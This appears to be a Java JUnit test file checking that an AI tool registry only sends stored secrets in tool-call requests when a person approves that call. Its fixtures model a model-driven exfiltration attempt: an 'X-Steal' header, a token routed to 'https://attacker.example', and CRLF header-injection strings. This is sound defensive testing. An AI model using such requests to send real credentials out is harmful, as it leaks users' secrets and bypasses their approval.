package dev.executortools;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import dev.executortools.internal.Json;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * A model that can name a stored secret must not be able to send it anywhere: {@code
 * specFetchCredentials} (and a new source's credentials) that refer to stored secrets are used only
 * when a person approves that very call, shown where it goes. The spec server is a second loopback
 * origin the network policy lets through (private network allowed), so only the approval stands
 * between the secret and the listener.
 */
class StoredSecretsLeaveOnlyWithApprovalTest {
  private static final String SECRET = "ghp_s3cr3t-value-0123456789";
  private static final String SPEC =
      """
      {"openapi": "3.0.0", "info": {"title": "t", "version": "1"},
       "paths": {"/pets": {"get": {"operationId": "listPets", "responses": {"200": {"description": "ok"}}}}}}""";

  /** What the spec server received: request line and every header, as one string each. */
  private final List<String> received = new CopyOnWriteArrayList<>();

  private HttpServer server;
  private String specUrl;

  @TempDir Path home;

  @BeforeEach
  void startSpecServer() throws IOException {
    server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    server.createContext(
        "/",
        exchange -> {
          try (exchange) {
            StringBuilder seen =
                new StringBuilder(exchange.getRequestMethod() + " " + exchange.getRequestURI());
            exchange
                .getRequestHeaders()
                .forEach(
                    (name, values) -> seen.append('\n').append(name).append(": ").append(values));
            received.add(seen.toString());
            byte[] body = SPEC.getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
          }
        });
    server.start();
    specUrl = "http://127.0.0.1:" + server.getAddress().getPort() + "/spec.json";
  }

  @AfterEach
  void stop() {
    server.stop(0);
  }

  private ToolRegistry registry(ApprovalHandler approvals) {
    return ToolRegistry.builder()
        .home(home)
        .allowPrivateNetwork(true)
        .approvals(approvals)
        .secrets(SecretProvider.of(Map.of("github_token", SECRET)))
        .build();
  }

  private ObjectNode stealing(String secretId) {
    ObjectNode args = Json.object().put("spec", specUrl);
    ObjectNode creds = args.putObject("specFetchCredentials");
    creds.putObject("headers").putObject("X-Steal").put("secretId", secretId);
    creds.putObject("queryParams").putObject("q").put("secretId", secretId);
    return args;
  }

  /** Declines every call, recording what it was asked. */
  private static ApprovalHandler declining(List<ApprovalRequest> asked) {
    return new ApprovalHandler() {
      @Override
      public boolean approve(ApprovalRequest request) {
        asked.add(request);
        return false;
      }

      @Override
      public boolean approve(Tool tool, JsonNode arguments) {
        throw new AssertionError("the registry asks with the whole request");
      }
    };
  }

  private boolean anythingReceived() {
    return !received.isEmpty();
  }

  private boolean secretReceived() {
    return received.stream().anyMatch(r -> r.contains(SECRET));
  }

  @Test
  void previewSpecNamingAStoredSecretIsRefusedWithoutAnyoneToAskAndFetchesNothing() {
    try (ToolRegistry registry = registry(null)) {
      ToolResult result = registry.call("openapi.previewSpec", stealing("github_token"));

      assertThat(result.error().code()).isEqualTo(ErrorCode.APPROVAL_REQUIRED);
      assertThat(result.error().message()).contains("github_token").doesNotContain(SECRET);
      assertThat(result.error().details().path("secrets").get(0).asString())
          .isEqualTo("github_token");
      assertThat(anythingReceived()).isFalse();
    }
  }

  @Test
  void anApprovalRuleForTheToolDoesNotCoverStoredSecrets() {
    // previewSpec needs no approval by its rules; naming a secret still does
    try (ToolRegistry registry = registry(null)) {
      assertThat(
              registry.tool("openapi.previewSpec").orElseThrow().annotations().requiresApproval())
          .isFalse();
      assertThat(registry.call("openapi.previewSpec", stealing("github_token")).error().code())
          .isEqualTo(ErrorCode.APPROVAL_REQUIRED);
    }
    assertThat(anythingReceived()).isFalse();
  }

  @Test
  void aMissingAndAnExistingSecretNameAnswerAlike() {
    try (ToolRegistry registry = registry(null)) {
      ToolResult existing = registry.call("openapi.previewSpec", stealing("github_token"));
      ToolResult missing = registry.call("openapi.previewSpec", stealing("no_such_secret"));

      assertThat(missing.error().code()).isEqualTo(existing.error().code());
      assertThat(missing.error().message().replace("no_such_secret", "NAME"))
          .isEqualTo(existing.error().message().replace("github_token", "NAME"));
    }
    assertThat(anythingReceived()).isFalse();
  }

  @Test
  void aDeclinedApprovalSendsNothingAndTheQuestionShowsTheDestinationAndTheSecret() {
    List<ApprovalRequest> asked = new ArrayList<>();
    try (ToolRegistry registry = registry(declining(asked))) {
      ToolResult result = registry.call("openapi.previewSpec", stealing("github_token"));

      assertThat(result.error().code()).isEqualTo(ErrorCode.APPROVAL_DECLINED);
    }
    assertThat(anythingReceived()).isFalse();
    ApprovalRequest request = asked.get(0);
    String origin = "http://127.0.0.1:" + server.getAddress().getPort();
    assertThat(request.destination()).isEqualTo(origin);
    assertThat(request.secrets()).containsExactly("github_token");
    assertThat(request.summary())
        .isEqualTo(
            "openapi.previewSpec: GET "
                + origin
                + "/spec.json, with the stored secret github_token");
  }

  @Test
  void anApprovedCallSendsTheSecretAsTheUserAllowed() {
    try (ToolRegistry registry = registry(ApprovalHandler.APPROVE_ALL)) {
      ToolResult result = registry.call("openapi.previewSpec", stealing("github_token"));

      assertThat(result.ok()).as(result.toJson().toString()).isTrue();
    }
    assertThat(received)
        .singleElement()
        .asString()
        .startsWith("GET /spec.json?q=" + SECRET)
        .contains("X-steal: [" + SECRET + "]");
  }

  @Test
  void literalValuesAreTheModelsOwnAndNeedNoApproval() {
    ObjectNode args = Json.object().put("spec", specUrl);
    args.putObject("specFetchCredentials").putObject("headers").put("X-Api-Key", "model-chosen");
    try (ToolRegistry registry = registry(null)) {
      assertThat(registry.call("openapi.previewSpec", args).ok()).isTrue();
    }
    assertThat(received).singleElement().asString().contains("X-api-key: [model-chosen]");
  }

  @Test
  void addSourceAsAToolCallIsAskedForItsSecretsEvenWhenItsRuleApprovesIt() {
    ObjectNode args =
        Json.object()
            .put("spec", SPEC)
            .put("namespace", "pets")
            .put("baseUrl", "https://attacker.example");
    args.putObject("headers")
        .putObject("Authorization")
        .put("secretId", "github_token")
        .put("prefix", "Bearer ");
    List<ApprovalRequest> asked = new ArrayList<>();
    try (ToolRegistry registry = registry(declining(asked))) {
      assertThat(registry.call("openapi.addSource", args).error().code())
          .isEqualTo(ErrorCode.APPROVAL_DECLINED);
      assertThat(registry.sources()).isEmpty();
    }
    assertThat(asked)
        .singleElement()
        .satisfies(
            request -> {
              assertThat(request.secrets()).containsExactly("github_token");
              assertThat(request.destination()).as("an inline spec is not fetched").isNull();
            });
  }

  @Test
  void addSourceAsAToolCallFetchesWithAStoredSecretOnlyWhenApproved() {
    ObjectNode args = stealing("github_token").put("namespace", "pets");
    try (ToolRegistry registry = registry(null)) {
      assertThat(registry.call("openapi.addSource", args).error().code())
          .isEqualTo(ErrorCode.APPROVAL_REQUIRED);
    }
    assertThat(anythingReceived()).isFalse();
    try (ToolRegistry registry = registry(ApprovalHandler.APPROVE_ALL)) {
      assertThat(registry.call("openapi.addSource", args).ok()).isTrue();
    }
    assertThat(received).singleElement().asString().contains("X-steal: [" + SECRET + "]");
  }

  @Test
  void theProgramItselfMayUseStoredSecretsForTheSpecFetch() {
    try (ToolRegistry registry = registry(null)) {
      ObjectNode args = stealing("github_token").put("namespace", "pets");
      assertThat(registry.addSource(args).ok()).isTrue();
    }
    assertThat(secretReceived()).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Host",
        "Transfer-Encoding",
        "Content-Length",
        "Upgrade",
        "Expect",
        "Proxy-Authorization",
        "Connection",
        "TE",
        "Keep-Alive",
        "Trailer",
        "host"
      })
  void framingAndRoutingHeadersAreNeverTakenForTheSpecFetch(String name) {
    ObjectNode args = Json.object().put("spec", specUrl);
    args.putObject("specFetchCredentials").putObject("headers").put(name, "chunked");
    try (ToolRegistry registry = registry(ApprovalHandler.APPROVE_ALL)) {
      ToolResult result = registry.call("openapi.previewSpec", args);

      assertThat(result.error().code()).isEqualTo(ErrorCode.INVALID_ARGUMENTS);
      assertThat(result.error().details().path("errors").get(0).path("path").asString())
          .isEqualTo("/specFetchCredentials/headers/" + name);
    }
    assertThat(anythingReceived()).isFalse();
  }

  @ParameterizedTest
  @ValueSource(strings = {"a\r\nX-Injected: 1", "line\nfeed", "caf\u00e9", "nul\u0000"})
  void headerValuesThatCannotBeSentAsTheyAreAreInvalidArguments(String value) {
    ObjectNode args = Json.object().put("spec", specUrl);
    args.putObject("specFetchCredentials").putObject("headers").put("X-Value", value);
    try (ToolRegistry registry = registry(ApprovalHandler.APPROVE_ALL)) {
      ToolResult result = registry.call("openapi.previewSpec", args);

      assertThat(result.error().code()).isEqualTo(ErrorCode.INVALID_ARGUMENTS);
      assertThat(result.error().message()).doesNotContain(value);
    }
    assertThat(anythingReceived()).isFalse();
  }

  @Test
  void aStoredSecretThatCannotBeSentAsAHeaderIsAnErrorValueNamingNoValue() {
    ObjectNode args = stealing("multi_line");
    try (ToolRegistry registry =
        ToolRegistry.builder()
            .home(home)
            .allowPrivateNetwork(true)
            .approvals(ApprovalHandler.APPROVE_ALL)
            .secrets(SecretProvider.of(Map.of("multi_line", "first\r\nsecond")))
            .build()) {
      ToolResult result = registry.call("openapi.previewSpec", args);

      assertThat(result.error().code()).isEqualTo(ErrorCode.INVALID_ARGUMENTS);
      assertThat(result.toJson().toString()).doesNotContain("first").doesNotContain("second");
    }
    assertThat(anythingReceived()).isFalse();
  }
}
